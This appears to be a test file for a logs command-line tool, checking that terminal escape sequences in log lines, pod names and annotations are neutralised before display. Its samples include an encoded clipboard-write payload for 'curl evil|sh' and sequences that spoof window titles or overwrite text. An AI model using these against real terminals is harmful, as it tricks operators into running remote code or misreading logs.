import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import { afterEach, describe, expect, it } from 'vitest';
import { formatLine, parseOptions, runLogs, type ClusterView, type LogsFlags } from '../../src/cli/logs.ts';
import { controlPolicy, escapeControls, escapeJsonControls } from '../../src/cli/terminal.ts';
import { parseConfig } from '../../src/core/config.ts';
import { FIELD_MAPS } from '../../src/query/victorialogs.ts';
import type { LogLine } from '../../src/query/types.ts';

/** The sequences a hostile line may carry, and what an operator's terminal sees instead. */
const SEQUENCES: Array<[string, string, string]> = [
  ['OSC 52 clipboard write', '\x1b]52;c;Y3VybCBldmlsfHNo\x07', '\\x1b]52;c;Y3VybCBldmlsfHNo\\x07'],
  ['OSC 0 window title', '\x1b]0;prod-db: all green\x07', '\\x1b]0;prod-db: all green\\x07'],
  ['OSC 2 window title, ST-terminated', '\x1b]2;title\x1b\\', '\\x1b]2;title\\x1b\\'],
  ['CSI erase line', '\x1b[2K', '\\x1b[2K'],
  ['CSI cursor up', '\x1b[1A\x1b[1A', '\\x1b[1A\\x1b[1A'],
  ['C1 CSI (U+009B) erase line', '\u009b2K', '\\u009b2K'],
  ['C1 OSC (U+009D) title', '\u009d0;t\u009c', '\\u009d0;t\\u009c'],
  ['BEL', 'ding\x07', 'ding\\x07'],
  ['backspace', 'pass\b\b\b\bfail', 'pass\\x08\\x08\\x08\\x08fail'],
  ['carriage return', 'FAILED\rOK    ', 'FAILED\\x0dOK    '],
  ['DEL', 'a\x7fb', 'a\\x7fb'],
  ['NUL and vertical tab', 'a\x00b\x0bc', 'a\\x00b\\x0bc'],
];

describe('escapeControls: what a terminal would act on is printed as an escape', () => {
  it.each(SEQUENCES)('%s', (_name, raw, shown) => {
    expect(escapeControls(raw)).toBe(shown);
    // Nothing a terminal acts on is left: no C0 but tab and newline, no DEL, no C1.
    // eslint-disable-next-line no-control-regex -- the characters under test
    expect(escapeControls(raw)).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  });
  it('keeps tab, newline and printable text, non-ASCII included', () => {
    const text = 'a\tb\nc ünïcødé 日本 €\u00a0x \\x1b stays literal';
    expect(escapeControls(text)).toBe(text);
  });
  it('-o json escapes DEL and C1 too, and decodes to the same text', () => {
    const msg = SEQUENCES.map(([, raw]) => raw).join('|');
    const json = escapeJsonControls(JSON.stringify({ message: msg }));
    // eslint-disable-next-line no-control-regex -- the characters under test
    expect(json).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
    expect((JSON.parse(json) as { message: string }).message).toBe(msg);
  });
});

describe('controlPolicy: escaped on a terminal unless --raw; kept in a file or a pipe', () => {
  it.each([
    [true, false, 'escape'],
    [true, true, 'keep'],
    [false, false, 'keep'],
    [false, true, 'keep'],
  ] as const)('terminal=%s raw=%s: %s', (tty, raw, policy) => {
    expect(controlPolicy(tty, raw)).toBe(policy);
  });
  it('--raw is a flag of the command', () => {
    expect(parseOptions('job/j', { chartNamespace: 'jobharvest', raw: true }, {}).raw).toBe(true);
    expect(parseOptions('job/j', { chartNamespace: 'jobharvest' }, {}).raw).toBe(false);
  });
});

describe('formatLine with controls escaped', () => {
  const l: LogLine = { ns: 1764574800000000120n, stream: 'stdout', message: '', pod: 'nightly-x7k2p', container: 'main', restart: 0, id: 'a-0' };
  it.each(SEQUENCES)('%s in the message', (_name, raw, shown) => {
    const line = { ...l, message: `before ${raw} after` };
    expect(formatLine(line, { namespace: 'n', job: 'j' }, { controls: 'escape' })).toBe(`before ${shown} after\n`);
    expect(formatLine(line, { namespace: 'n', job: 'j' }, { controls: 'keep' })).toBe(`before ${raw} after\n`);
  });
  it('in each line of a joined record, and in the pod and container names of --prefix', () => {
    const line = { ...l, pod: 'p\x1b[2J', container: 'c\u009b1A', message: 'one\x1b[1A\ntwo\r' };
    expect(formatLine(line, { namespace: 'n', job: 'j' }, { controls: 'escape', prefix: true })).toBe('[pod/p\\x1b[2J/c\\u009b1A] one\\x1b[1A\n[pod/p\\x1b[2J/c\\u009b1A] two\\x0d\n');
  });
  it('-o json escapes whatever the policy', () => {
    const line = { ...l, message: '\x1b]52;c;eA==\x07 \u009b2K \x7f' };
    for (const controls of ['escape', 'keep'] as const) {
      const out = formatLine(line, { namespace: 'n', job: 'j' }, { output: 'json', controls });
      // eslint-disable-next-line no-control-regex -- the characters under test
      expect(out.slice(0, -1)).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
      expect((JSON.parse(out) as { message: string }).message).toBe(line.message);
    }
  });
});

/** A writable that says it is a terminal, or not, and keeps what it got. */
function stream(isTTY: boolean) {
  const chunks: string[] = [];
  const s = new Writable({
    write(c: Buffer, _e, cb) {
      chunks.push(c.toString());
      cb();
    },
  }) as Writable & { isTTY?: boolean };
  if (isTTY) s.isTTY = true;
  return { stream: s, text: () => chunks.join('') };
}

const servers: Server[] = [];
afterEach(async () => {
  for (const s of servers.splice(0)) await new Promise((r) => s.close(r));
});

/** A VictoriaLogs stand-in holding one hostile line: every query finds it, a resumed page finds only the cursor's row. */
async function logServer(message: string, pod: string): Promise<string> {
  // Under every writer's field names, so whichever the client settles on finds them.
  const fields = Object.fromEntries(Object.values(FIELD_MAPS).flatMap((f) => [[f.pod, pod], [f.container, 'main'], [f.stream, 'stdout'], [f.id, 'a-0'], [f.restart, '0']]));
  const row = JSON.stringify({ _time: '2025-12-01T07:40:00Z', _msg: message, ...fields });
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      res.writeHead(200, { 'content-type': 'application/x-ndjson' });
      res.end(`${row}\n`);
    });
  });
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

describe('runLogs: the isTTY check at the edge', () => {
  const message = 'step 1 \x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;title\x07\x1b[1A\x1b[2K\u009b2K\x07\b\rok';
  const shown = 'step 1 \\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b]0;title\\x07\\x1b[1A\\x1b[2K\\u009b2K\\x07\\x08\\x0dok';
  const flags = (endpoint: string, f: Partial<LogsFlags> = {}): LogsFlags => ({ chartNamespace: 'jobharvest', queryEndpoint: endpoint, queryType: 'victorialogs', pageSize: '1', ...f });
  const view = (v: Partial<ClusterView> = {}): ClusterView => ({ namespace: 'team-a', jobFound: 'gone', namespaceNote: '', configNote: '', secret: async () => undefined, ...v });

  it('escapes a line on a terminal, keeps its bytes in a pipe and with --raw', async () => {
    const url = await logServer(message, 'nightly-\x1b[31mx');
    const tty = stream(true);
    expect(await runLogs('job/nightly', flags(url, { prefix: true }), tty.stream, stream(false).stream, view())).toBe(0);
    expect(tty.text()).toBe(`[pod/nightly-\\x1b[31mx/main] ${shown}\n`);
    const pipe = stream(false);
    await runLogs('job/nightly', flags(url), pipe.stream, stream(false).stream, view());
    expect(pipe.text()).toBe(`${message}\n`);
    const raw = stream(true);
    await runLogs('job/nightly', flags(url, { raw: true }), raw.stream, stream(false).stream, view());
    expect(raw.text()).toBe(`${message}\n`);
  });

  it("escapes a tenant's annotation in --explain and in the warnings on a terminal", async () => {
    const url = await logServer('x', 'p');
    const job = { annotations: { 'jobharvest.io/auth-secret': 'sa' }, template: { 'kubectl.kubernetes.io/default-container': 'main\x1b]0;owned\x07' }, uid: 'u', containers: ['main'] };
    const explain = stream(true);
    await runLogs('job/nightly', flags(url, { explain: true }), explain.stream, stream(false).stream, view({ job, jobFound: 'exists', config: parseConfig({ sink: { type: 'loki', endpoint: 'http://vl:9428/insert/loki/api/v1/push' } }) }));
    expect(explain.text()).toContain('containers: main\\x1b]0;owned\\x07');
    // eslint-disable-next-line no-control-regex -- the characters under test
    expect(explain.text()).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    // A query type from a namespace annotation is quoted in a warning; JSON.stringify leaves C1 as it is.
    const err = stream(true);
    await runLogs('job/nightly', { chartNamespace: 'jobharvest', queryEndpoint: url, pageSize: '1' }, stream(false).stream, err.stream, view({ namespaceAnnotations: { 'jobharvest.io/query-type': 'x\u009b2J' } }));
    expect(err.text()).toContain('x\\u009b2J');
    expect(err.text()).not.toContain('\u009b');
  });
});
